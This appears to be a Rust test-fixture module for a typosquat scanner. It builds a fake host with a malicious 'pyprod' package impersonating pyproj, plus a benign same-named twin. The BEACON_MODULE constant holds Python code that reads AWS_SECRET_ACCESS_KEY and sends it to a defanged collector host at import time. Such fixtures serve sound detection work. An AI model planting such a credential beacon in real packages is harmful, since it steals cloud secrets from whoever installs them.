//! Fake-host builders for typosquat verdicts: a near name of a popular
//! package that copies the target's identity (the attack) and one with an
//! identity of its own (the benign twin). Both use the name `pyprod`, one
//! arbitrary substitution (`d` for `j`) from `pyproj` (rank 888): its shape
//! alone makes it `suspicious`.

use std::path::{Path, PathBuf};

use super::FakeHost;

/// The near name both builders install.
pub const NEAR_NAME: &str = "pyprod";

/// A module that reads a cloud credential and sends it out at import time:
/// what the install-time scanner reports as a finding (defanged host).
pub const BEACON_MODULE: &str = "import os, urllib.request\n_k = os.environ.get(\"AWS_SECRET_ACCESS_KEY\")\nurllib.request.urlopen(\"https://collector.invalid/p?k=\" + str(_k))\n";

/// A project venv for the builders (`/home/alice/proj/.venv`), returning its
/// site directory.
pub fn project_venv(fh: &FakeHost) -> PathBuf {
    fh.passwd(&[("alice", 1000, "/home/alice")]);
    fh.venv("/home/alice/proj/.venv", "3.12", false)
}

/// The attack: `pyprod` with pyproj's summary and pyproj's project URL,
/// installed just now by nobody's request (no REQUESTED) with nothing
/// depending on it, and a module that phones home.
pub fn plant_copycat_typosquat(fh: &FakeHost, site: &Path) {
    fh.dist(site, NEAR_NAME, "3.7.0")
        .field(
            "Summary",
            "Python interface to PROJ (cartographic projections and coordinate transformations library)",
        )
        .field("Home-page", "https://pyproj4.github.io/pyproj/")
        .field("Project-URL", "Source, https://github.com/pyproj4/pyproj")
        .installer("pip")
        .file("pyprod/__init__.py", BEACON_MODULE)
        .write();
}

/// The benign twin: `pyprod` with its own summary and its own project URL,
/// requested by the user, declared by an installed application.
pub fn plant_distinct_near_name(fh: &FakeHost, site: &Path) {
    fh.dist(site, NEAR_NAME, "0.3.1")
        .field("Summary", "Production settings for small services")
        .field("Project-URL", "Source, https://github.com/someone/pyprod")
        .installer("pip")
        .requested()
        .file("pyprod/__init__.py", "def settings():\n    return {}\n")
        .write();
    fh.dist(site, "prodserve", "1.0.0")
        .field("Summary", "Serves small services")
        .field("Requires-Dist", "pyprod>=0.3")
        .installer("pip")
        .requested()
        .write();
}
